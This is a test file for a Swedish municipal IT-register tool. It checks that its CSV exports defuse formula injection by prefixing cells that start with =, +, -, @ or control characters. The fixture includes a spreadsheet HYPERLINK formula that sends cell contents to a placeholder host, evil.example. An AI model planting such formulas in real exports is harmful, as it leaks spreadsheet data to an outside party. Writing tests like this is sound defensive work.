// The one CSV writer: BOM, ';' and decimal comma in Swedish, ',' in English, formula-looking text prefixed with ',
// for every command that writes CSV (export, costs, list), parsed back with csv-parse as a spreadsheet would read it.
import { readFileSync } from 'node:fs';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { formatCsv } from '../../src/util/csv.js';
import { registerFrom, runCli } from '../helpers.js';

const read = (text: string, delimiter: string): string[][] => {
  expect(text.startsWith('\ufeff')).toBe(true);
  return parse(text, { bom: true, delimiter, relax_column_count: true });
};

describe('formatCsv', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?leak="&A1,"x")', `'=HYPERLINK("http://evil.example/?leak="&A1,"x")`],
    ['+46 530 100 00', "'+46 530 100 00"],
    ['-1+2', "'-1+2"],
    ['@SUM(A1:A2)', "'@SUM(A1:A2)"],
    ['\tcmd', "'\tcmd"],
    ['\r=1', "'\r=1"],
    ['Åmål', 'Åmål'],
    ['a = b', 'a = b'],
  ])('writes %j so that a spreadsheet shows it as text', (cell, shown) => {
    expect(read(formatCsv([[cell]], 'en'), ',')[0]).toEqual([shown]);
  });

  it('writes numbers in the language (decimal comma and ; in Swedish), never prefixed', () => {
    expect(formatCsv([['a', 1234.5, -2, 'x;y']], 'sv')).toBe('\ufeffa;1234,5;-2;"x;y"\r\n');
    expect(formatCsv([['a', 1234.5, -2, 'x,y']], 'en')).toBe('\ufeffa,1234.5,-2,"x,y"\r\n');
  });
});

describe('every CSV itreg writes', () => {
  const evil = '=HYPERLINK("http://evil.example/?leak="&A1,"x")';
  const folder = registerFrom('clean', {
    'register/applications/diarium.yaml': `kind: Application\nid: diarium\nname: '${evil}'\ntype: business\nmunicipalities: [amal, mellerud]\ncollaborationLevel: 1\noperatedBy: it-amal\nvendor: { name: '@Ärendesystem Väst AB', product: Dokumentor }\ndocumentation: { routines: docs/diarium/rutiner.md, operations: docs/diarium/drift.md }\n`,
    'register/investments/diarium-2026.yaml': `kind: Investment\nid: diarium-2026\nname: '-Uppgradering'\nyear: 2026\namount: 100000.5\napplication: diarium\n`,
    'itreg.yaml': `name: Testkommunerna\nregister: register\nlanguage: sv\nrounding: ore\ncollaborationLevels: [Erfarenhetsutbyte, Samordnad kompetens]\n`,
  });

  it('export --format csv: BOM, ";", decimal comma, formulas defused', () => {
    expect(runCli(['export', '--format', 'csv', '--out-dir', 'out'], folder).status).toBe(0);
    const apps = read(readFileSync(`${folder}/out/Application.csv`, 'utf8'), ';');
    expect(apps[1]).toContain(`'${evil}`);
    expect(apps[1]).toContain("'@Ärendesystem Väst AB");
    const investments = read(readFileSync(`${folder}/out/Investment.csv`, 'utf8'), ';');
    expect(investments[1]).toContain('100000,5');
    expect(investments[1]).toContain("'-Uppgradering");
    const en = runCli(['export', '--format', 'csv', '--out-dir', 'en', '--lang', 'en'], folder);
    expect(en.status).toBe(0);
    expect(read(readFileSync(`${folder}/en/Investment.csv`, 'utf8'), ',')[1]).toContain('100000.5');
  });

  it('costs --format csv and list --format csv: the same', () => {
    const costs = read(runCli(['costs', '--year', '2026', '--format', 'csv'], folder).stdout, ';');
    expect(costs.flat()).toContain("'-Uppgradering");
    const list = read(runCli(['list', 'applications', '--format', 'csv'], folder).stdout, ';');
    expect(list[0]).toEqual(['id', 'name', 'type', 'municipalities', 'lifecycle.status', 'operatedBy', 'vendor.name']);
    expect(list[1]).toEqual(['diarium', `'${evil}`, 'business', 'amal, mellerud', '', 'it-amal', "'@Ärendesystem Väst AB"]);
  });
});
